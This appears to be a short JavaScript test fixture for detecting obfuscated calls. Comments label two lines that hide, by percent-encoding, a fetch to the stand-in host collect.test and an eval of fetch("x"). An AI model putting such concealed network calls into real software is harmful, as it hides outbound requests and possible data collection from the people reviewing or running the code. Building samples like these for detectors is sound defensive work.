// hides: call fetch "http://collect.test/in"
// hides: call eval "fetch(\"x\")"
fetch(decodeURIComponent('%68%74%74%70%3a%2f%2f%63%6f%6c%6c%65%63%74%2e%74%65%73%74%2f%69%6e'));
eval(unescape('%66%65%74%63%68%28%22%78%22%29'));
